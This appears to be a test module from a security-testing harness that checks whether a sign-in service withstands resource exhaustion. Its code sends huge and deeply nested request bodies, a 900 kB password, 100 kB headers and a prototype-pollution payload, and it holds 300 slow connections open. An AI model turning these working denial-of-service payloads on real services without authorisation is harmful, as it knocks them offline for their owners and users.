import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as connectSecurely } from 'node:tls';
import { type Attack, unless } from '../attack.ts';

const MIB = 2 ** 20;

/** Opens connections that send the head of a request and then nothing. @returns a function that closes them */
function holdConnections(url: string, count: number): () => void {
  const { hostname, port, protocol } = new URL(url);
  const sockets = Array.from({ length: count }, () => {
    const socket =
      protocol === 'https:'
        ? connectSecurely({ host: hostname, port: Number(port || 443), servername: hostname })
        : connect(Number(port || 80), hostname);
    socket.on('error', () => {});
    socket.write('POST /users/login/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n');
    return socket;
  });
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}

export const resourceExhaustion: Attack = {
  name: 'resource-exhaustion',
  title: 'Stop the service with huge bodies, deep JSON, endless headers, long passwords and slow connections',
  gain: 'One laptop takes the shop’s sign-in down.',
  source:
    'OWASP ASVS 5.0 §4.2, §15.2.2; CWE-400; CVE-2022-36359 (long passwords), CVE-2007-6750 (slow requests)',
  needs: 'url',
  async run(arena) {
    const faults: string[] = [];
    const json = { 'content-type': 'application/json' };
    const email = 'ada@customers.example';
    const bodies: Readonly<Record<string, { raw: string; headers: Record<string, string> }>> = {
      'a body of 20 MiB': { raw: 'x'.repeat(20 * MIB), headers: json },
      'JSON 100,000 deep': { raw: '['.repeat(100_000), headers: json },
      'a password of 900 kB': {
        raw: JSON.stringify({ email, password: 'a'.repeat(900_000) }),
        headers: json,
      },
      '100,000 fields': {
        raw: Array.from({ length: 100_000 }, (_, index) => `a${index}=1`).join('&'),
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      },
      'a polluted prototype': {
        raw: '{"__proto__":{"isStaff":true},"email":"a","password":"b"}',
        headers: json,
      },
    };
    for (const [name, { raw, headers }] of Object.entries(bodies)) {
      const client = arena.client();
      const { status, elapsed } = await client
        .send('POST', '/users/login/', { raw, headers })
        .catch(() => ({ status: 0, elapsed: 0 }));
      if (status === 200 || status >= 500) faults.push(`${name} was answered with ${status}`);
      if (elapsed > 2000) faults.push(`${name} took ${Math.round(elapsed)} ms`);
    }
    const long = { 'x-long': 'a'.repeat(100_000) };
    const header = await arena
      .client()
      .get('/healthz', { headers: long })
      .catch(() => ({ status: 0 }));
    if (header.status === 200) faults.push('a header of 100 kB was accepted');
    const close = holdConnections(arena.url, 300);
    await pause(300);
    const beside = await arena
      .client()
      .get('/healthz')
      .catch(() => ({ status: 0, elapsed: 0 }));
    close();
    if (beside.status !== 200) faults.push('300 slow connections kept others out');
    const after = await arena
      .client()
      .get('/healthz')
      .catch(() => ({ status: 0 }));
    if (after.status !== 200) faults.push('the service does not answer any more');
    return unless(
      faults,
      `${Object.keys(bodies).length} kinds of bodies, a long header, 300 slow connections`,
    );
  },
};
